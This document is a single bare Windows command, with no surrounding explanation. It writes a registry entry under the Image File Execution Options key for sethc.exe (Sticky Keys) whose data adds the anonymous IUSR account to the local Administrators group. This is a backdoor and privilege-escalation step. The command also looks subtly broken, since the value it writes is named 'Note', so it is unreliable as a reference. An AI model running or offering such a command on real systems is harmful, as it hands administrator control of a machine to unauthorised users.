reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Note /t REG_SZ /d "cmd /c net localgroup Administrators IUSR /add"
